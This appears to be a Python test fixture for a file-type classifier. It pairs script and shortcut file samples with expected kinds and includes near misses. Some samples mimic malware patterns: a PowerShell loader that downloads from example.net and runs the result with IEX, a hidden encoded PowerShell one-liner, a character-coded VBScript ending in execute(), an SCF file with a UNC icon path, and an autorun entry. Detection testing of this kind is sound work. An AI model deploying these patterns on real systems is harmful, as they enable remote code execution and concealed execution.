"""Texts that are scripts or shortcuts, all harmless, and near misses that are neither."""

POWERSHELL = b"""<#
.SYNOPSIS
  Lists what was changed today and in the days before, for the people who look after it.
#>
[CmdletBinding()]
param(
    [string]$Folder = "$env:TEMP"
)
$since = (Get-Date).AddDays(-1)
Get-ChildItem -Path $Folder | Where-Object { $_.LastWriteTime -gt $since } | ForEach-Object {
    Write-Host $_.Name
}
"""
BATCH = b"""rem Copies the notes\r
setlocal\r
set target=%TEMP%\\notes\r
if not exist "%target%" mkdir "%target%"\r
copy "%~dp0notes.txt" "%target%" >nul\r
if errorlevel 1 goto failed\r
exit /b 0\r
:failed\r
echo It did not work.\r
pause\r
"""
VBSCRIPT = b"""Option Explicit
' Says hello
Dim shell, names
Set shell = CreateObject("WScript.Shell")
If WScript.Arguments.Count > 0 Then
    shell.Popup "Hello, " & WScript.Arguments(0)
End If
"""
OBFUSCATED_VBS = b"""on error resume next
dim a1 : a1 = ""
function b2(c3)
b2 = chr(c3 - 1)
end function
a1 = a1 & b2(110) & b2(111)
execute(a1)
"""
JSCRIPT = b"""var shell = new ActiveXObject("WScript.Shell");
function say(text) {
    shell.Popup(text);
}
say("hello");
WScript.Quit(0);
"""
PYTHON = b'''"""Counts words."""

import sys
from collections import Counter


def main(paths: list[str]) -> int:
    words = Counter()
    for path in paths:
        words.update(open(path).read().split())
    print(words.most_common(10))
    return 0
'''
AUTOIT = b"""#NoTrayIcon
#include <File.au3>
Local $folder = @ScriptDir
Func Say($text)
    MsgBox(0, "Note", $text)
EndFunc
Say($folder)
"""
AUTOHOTKEY = b"""#SingleInstance force
SetWorkingDir %A_ScriptDir%
^!n::
Run, notepad.exe
return
"""
WSF = b"""<?xml version="1.0"?>
<package><job id="a"><script language="VBScript">
WScript.Echo "hello"
</script></job></package>
"""
HTA = b"""<html><head><hta:application id="a" border="thin" />
<script>alert(1)</script></head></html>"""
SCRIPTLET = b"""<?XML version="1.0"?>
<scriptlet><registration progid="a" /><script language="JScript">var a;</script></scriptlet>"""

SCRIPTS = {
    "powershell": (POWERSHELL, "powershell"),
    "powershell in UTF-16": (POWERSHELL.decode().encode("utf-16"), "powershell"),
    "powershell behind blanks": (b"\r\n" * 5000 + POWERSHELL, "powershell"),
    "powershell on one line": (b"powershell.exe -NoP -W Hidden -Enc aQBkAA==", "powershell"),
    "powershell loader": (
        b"$a = New-Object Net.WebClient\n$b = $a.DownloadString('http://example.net/')\n"
        b"if ($b -match 'x') { IEX $b }\n",
        "powershell",
    ),
    "batch": (BATCH, "batch"),
    "batch that ends as DOS files do": (BATCH + b"\x1a", "batch"),
    "batch with a code page": (b"rem \x84\xe1\r\n" + BATCH, "batch"),
    "batch, first line": (b"\r\n@ECHO  off\r\ndir\r\n", "batch"),
    "vbs": (VBSCRIPT, "vbs"),
    "vbs in UTF-16": (VBSCRIPT.decode().encode("utf-16"), "vbs"),
    "vbs of codes": (OBFUSCATED_VBS, "vbs"),
    "vbs behind a long comment": (b"' padding padding\n" * 2000 + VBSCRIPT, "vbs"),
    "jscript": (JSCRIPT, "js"),
    "python": (PYTHON, "python"),
    "python with CRLF": (PYTHON.replace(b"\n", b"\r\n"), "python"),
    "autoit": (AUTOIT, "autoit"),
    "autohotkey": (AUTOHOTKEY, "ahk"),
    "wsf": (WSF, "wsf"),
    "hta": (HTA, "hta"),
    "scriptlet": (SCRIPTLET, "scriptlet"),
    "wsh": (b"[ScriptFile]\r\nPath=C:\\a.vbs\r\n[Options]\r\n", "wsh"),
    "encoded": (b"#@~^XAAAAA==", "encoded"),
    "php": (b"<?php echo 1;", "php"),
    "sh": (b"#!/bin/sh\necho\n", "shell"),
    "python by env": (b"#! /usr/bin/env python3\n", "python"),
    "perl by env with options": (b"#!/usr/bin/env -S perl -w\n", "perl"),
    "node": (b"#!/usr/bin/env node\nlet a\n", "js"),
    "of an unknown language": (b"#!/opt/bin/frobnicate\n", ""),
}
"""Text → kind."""

JQUERY = b"""/*! A library */
(function (window, undefined) {
  var xhr = window.ActiveXObject ? new ActiveXObject("Microsoft.XMLHTTP") : new XMLHttpRequest();
  function get(url) { xhr.open("GET", url); xhr.send(); }
  document.addEventListener("click", function (event) { get("/a"); });
})(window);
"""
VISUAL_BASIC = b"""Imports System
Module Hello
    Sub Main()
        Dim shell As Object = CreateObject("WScript.Shell")
        If shell Is Nothing Then
            MsgBox("nothing")
        End If
    End Sub
End Module
"""
MANUAL = b"""How to automate
===============

Use CreateObject to get hold of WScript.Shell, then call Run as shown below in the next part.
Set the policy by Set-ExecutionPolicy and look at $env:TEMP for the files that were left there.

    Dim shell
    Set shell = CreateObject("WScript.Shell")
    On Error Resume Next
    MsgBox "done"
"""
README = b"# Tool\n\nInstall it:\n\n```powershell\n" + POWERSHELL + b"```\n"
LETTER = b"""Dear all,
please set the date for the next meeting, if the weather is fine then we go to the lake.
Start early and get everything from the list, echo what others said and import nothing new.
"""
C_SOURCE = b"""#include <stdio.h>
/* goto is fine here: setlocal, errorlevel */
int main(void) {
    if (!stdin) goto failed;
    return 0;
failed:
    return 1;
}
"""
JAVA_SOURCE = (
    b"package a.b;\nimport java.util.List;\nclass A {\n  int b() {\n    return 1;\n  }\n}\n"
)
HASKELL = b"module Main where\nimport Data.List\n\nmain = print (sort [2, 1])\n"
KOTLIN = b"package a.b\n\nimport kotlin.io.println\n\nclass A : B() {\n  fun c() = 1\n}\n"
PERL = b"use strict;\nmy $a = 1;\n$b = $null;\nif ($a -eq 1) { get-item }\n"
SHELL_LIBRARY = b"""name=$1
if [ "$name" -eq 1 ] && [ -n "$TEMP" ]; then
  for a in *; do echo "$a" > /dev/null; done
fi
"""
LOG = b"2024-01-01 10:00:00 set PATH=%TEMP% errorlevel 1 goto next\n" * 20
CSV = b"word,meaning\ngoto,jump\nerrorlevel,number\nsetlocal,scope\n%temp%,folder\n"
VIM = b"""" Vim syntax file
syn keyword autoitKeyword Func EndFunc If Then ElseIf Local Global
syn match autoitMacro "@ScriptDir"
#NoTrayIcon
let s:a = 1
Run(
"""
CSS = b"@media print {\n  a:after { content: attr(href); }\n}\n"
MAKEFILE = b"all:\n\t@echo off\n\tcopy a b\nclean:\n\tdel *.o\n"
NOT_SCRIPTS = {
    "library of web pages": (JQUERY, "text"),
    "minified library": (JQUERY.replace(b"\n", b""), "text"),
    "visual basic": (VISUAL_BASIC, "text"),
    "macros, exported": (b'Attribute VB_Name = "A"\nSub B()\nMsgBox "a" & "b"\nEnd Sub\n', "text"),
    "manual": (MANUAL, "text"),
    "readme with a listing": (README, "text"),
    "letter": (LETTER, "text"),
    "c": (C_SOURCE, "text"),
    "java": (JAVA_SOURCE, "text"),
    "haskell": (HASKELL, "text"),
    "kotlin": (KOTLIN, "text"),
    "perl module": (PERL, "text"),
    "functions for a shell": (SHELL_LIBRARY, "text"),
    "log": (LOG, "text"),
    "csv": (CSV, "text"),
    "syntax for an editor": (VIM, "text"),
    "css": (CSS, "text"),
    "makefile": (MAKEFILE, "text"),
    "json with a script": (b'{"run": "powershell -enc AAAA", "b": "Get-Item $env:TEMP"}', "json"),
    "mail with a script": (b"Received: a\nFrom: b\nSubject: c\n\n" + BATCH, "mail"),
    "package of another tool": (b'<?xml version="1.0"?><package><scriptfile/></package>', "xml"),
    "job of a build server": (b'<?xml version="1.0"?><job><script>make</script></job>', "xml"),
    "metadata of a component": (b'<?xml version="1.0"?><component type="a"/>', "xml"),
    "page about HTA": (b"<html><p>&lt;hta:application&gt;</p></html>", "html"),
    "sentence about powershell": (b"powershell is a shell - c is a language\n", "text"),
    "rust attribute": (b"#![allow(dead_code)]\nfn main() {}\n", "text"),
    "one word": (b"import\n", "text"),
}
"""Text → type."""

SHELL_FILES = {
    "shortcut": (b"[InternetShortcut]\r\nURL=https://www.example.net/\r\n", "url"),
    "shortcut among others": (
        b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=a:\r\n",
        "url",
    ),
    "shortcut behind a comment": (b"; hi\r\n\r\n[internetshortcut]\r\nurl = file://a/b\r\n", "url"),
    "shortcut of macOS": (
        b'<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key></dict></plist>',
        "url",
    ),
    "scf": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\a\\b.ico\r\n", "scf"),
    "desktop": (b"[Desktop Entry]\nType=Application\nName[de]=A\nExec=/bin/true\n", "desktop"),
    "desktop, comment first": (b"#!/usr/bin/xdg-open\n[Desktop Entry]\nExec=a\n", "script"),
    "registry": (b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\A]\r\n", "reg"),
    "registry in UTF-16": (
        "Windows Registry Editor Version 5.00\r\n\r\n[HKEY]".encode("utf-16"),
        "reg",
    ),
    "old registry": (b"REGEDIT4\r\n[HKEY_CURRENT_USER\\A]\r\n", "reg"),
    "setup": (b'; driver\r\n[Version]\r\nSignature="$Windows NT$"\r\n[DefaultInstall]\r\n', "inf"),
    "setup of old": (b"[Version]\r\nsignature=$CHICAGO$\r\n", "inf"),
    "autorun": (b"[AutoRun]\r\nopen=a.exe\r\nicon=a.ico\r\n", "inf"),
    "remote desktop": (b"screen mode id:i:2\r\nfull address:s:a.example\r\n", "rdp"),
    "query": (b"WEB\r\n1\r\nhttp://www.example.net/\r\n", "iqy"),
    "query of a database": (b"XLODBC\r\n1\r\nDSN=a\r\n", "iqy"),
    "sylk": (b'ID;PWXL;N;E\r\nC;X1;Y1;K"a"\r\nE\r\n', "slk"),
    "library": (
        b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/a"/>',
        "library_ms",
    ),
    "search": (b'<?xml version="1.0"?>\n<persistedQuery version="1.0"/>', "search_ms"),
    "connector": (b'<?xml version="1.0"?>\n<searchConnectorDescription/>', "search_ms"),
    "setting": (
        b'<?xml version="1.0" encoding="UTF-8"?><PCSettings><SearchableContent/></PCSettings>',
        "settingcontent_ms",
    ),
    "java start": (b'<?xml version="1.0"?><!-- <html> --><jnlp spec="1.0+"/>', "jnlp"),
    "clickonce": (
        b'<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="a"><deployment install="true"/>'
        b"</asmv1:assembly>",
        "clickonce",
    ),
    "clickonce reference": (
        "http://a.example/b.application#b.application, Culture=neutral, "
        "PublicKeyToken=0123456789abcdef, processorArchitecture=msil".encode("utf-16"),
        "clickonce",
    ),
    "app installer": (b'<?xml version="1.0"?><AppInstaller Version="1.0.0.0"/>', "appinstaller"),
    "console": (b'<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0"/>', "msc"),
    "theme": (b"; Copyright\r\n[Theme]\r\nDisplayName=A\r\n[Control Panel\\Desktop]\r\n", "theme"),
}
"""Text → type."""

NOT_SHELL_FILES = {
    "settings": (b"[general]\nurl=https://www.example.net/\n", "text"),
    "shortcut without target": (b"[InternetShortcut]\nname=a\n", "text"),
    "about shortcuts": (b"Write this:\n[InternetShortcut]\nURL=a\n", "text"),
    "desktop folder": (b"[Desktop Entry]\nType=Directory\nName=Games\n", "text"),
    "desktop.ini": (b"[.ShellClassInfo]\r\nIconResource=a.dll,1\r\n", "text"),
    "systemd": (b"[Unit]\nDescription=a\n[Service]\nExec=b\nExecStart=/bin/true\n", "text"),
    "inf that installs nothing": (b"[Version]\r\nNumber=1\r\n[Disc]\r\nTitle=a\r\n", "text"),
    "autorun that starts nothing": (b"[autorun]\r\nicon=a.ico\r\nlabel=b\r\n", "text"),
    "about regedit": (b"REGEDIT4 is the first line of such a file.\n", "text"),
    "remote settings without address": (b"screen mode id:i:2\r\n", "text"),
    "web and one": (b"WEB\n1\nis the beginning of a query\n", "text"),
    "id and semicolon": (b"ID;Name\n1;Anna\n", "text"),
    "manifest of a program": (b'<?xml version="1.0"?><assembly><trustInfo/></assembly>', "xml"),
    "property list": (b'<?xml version="1.0"?><plist><dict><key>A</key></dict></plist>', "xml"),
    "element within": (b'<?xml version="1.0"?><docs><jnlp/><PCSettings/></docs>', "xml"),
    "address": (b"https://www.example.net/a#b\n", "text"),
    "heading in a comment": (b"[rules]\n; [autorun]\nopen=1\n", "text"),
}
"""Text → type."""
